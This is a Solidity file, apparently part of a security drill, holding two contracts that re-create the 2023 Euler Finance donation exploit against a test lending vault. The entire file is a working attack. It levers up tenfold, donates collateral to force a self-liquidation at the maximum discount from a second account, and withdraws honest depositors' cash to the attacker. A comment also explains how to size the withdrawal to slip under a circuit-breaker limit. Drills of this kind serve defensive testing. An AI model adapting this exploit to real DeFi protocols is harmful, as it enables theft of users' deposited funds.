// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {DonationLendingVault} from "./DonationLendingVault.sol";

/// @title DonationLiquidator
/// @notice DRILL ONLY. The Euler attacker's second account: liquidates the violator and
/// withdraws what the liquidation discount left free.
contract DonationLiquidator {
    DonationLendingVault public immutable vault;
    address public immutable owner;

    error NotOwner(address caller);

    constructor(DonationLendingVault vault_) {
        vault = vault_;
        owner = msg.sender;
    }

    /// @notice Liquidate `violator` fully, then withdraw min(free collateral, cash, `cap`) to the owner.
    function liquidateAndWithdraw(address violator, uint256 cap) external returns (uint256 taken) {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        vault.liquidate(violator, type(uint256).max);
        uint256 c = vault.collateralOf(address(this));
        uint256 d = vault.debtOf(address(this));
        uint256 locked = (d * 1e18 + vault.COLLATERAL_FACTOR() - 1) / vault.COLLATERAL_FACTOR();
        taken = c - locked;
        uint256 cash = vault.cash();
        if (taken > cash) taken = cash;
        if (taken > cap) taken = cap;
        vault.withdraw(taken);
        IERC20 asset = vault.asset();
        asset.transfer(owner, asset.balanceOf(address(this)));
    }
}

/// @title DonationAttacker
/// @notice DRILL ONLY. The Euler Finance exploit (2023-03-13) against DonationLendingVault in
/// ONE transaction: deposit (flash-loaned) capital, lever up 10x with `mint`, donate collateral
/// until health is below 0.8 (no health check: the bug), liquidate yourself from a second
/// account at the 20% discount, withdraw the honest depositors' cash. Fund it first (the tokens
/// stand in for the flash loan; the drill measures the gain over them).
contract DonationAttacker {
    DonationLendingVault public immutable vault;
    IERC20 public immutable asset;
    DonationLiquidator public immutable liquidator;
    address public immutable owner;

    event Exploited(uint256 capital, uint256 taken, uint256 gain);

    error NotOwner(address caller);

    constructor(DonationLendingVault vault_) {
        vault = vault_;
        asset = vault_.asset();
        owner = msg.sender;
        liquidator = new DonationLiquidator(vault_);
        asset.approve(address(vault_), type(uint256).max);
    }

    /// @notice The whole exploit with `capital` tokens of this contract's balance. A careful
    /// attacker reads the breaker's remaining capacity first and takes no more than the limiter
    /// lets through (capital + capacity): a bigger withdrawal would revert the whole transaction.
    function exploit(uint256 capital, bool respectLimiter) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 cap = type(uint256).max;
        if (respectLimiter) cap = capital + vault.availableCapacity(address(asset));
        vault.deposit(capital);
        vault.mint(capital * 10);
        // Donate until health is just below 0.8, so the discount is the maximum (20%).
        uint256 d = vault.debtOf(address(this));
        uint256 target = d * 0.8e18 / vault.COLLATERAL_FACTOR();
        uint256 c = vault.collateralOf(address(this));
        if (c > target) vault.donateToReserves(c - target + 1);
        uint256 taken = liquidator.liquidateAndWithdraw(address(this), cap);
        emit Exploited(capital, taken, taken > capital ? taken - capital : 0);
        uint256 left = asset.balanceOf(address(this));
        if (left != 0) asset.transfer(owner, left);
    }
}
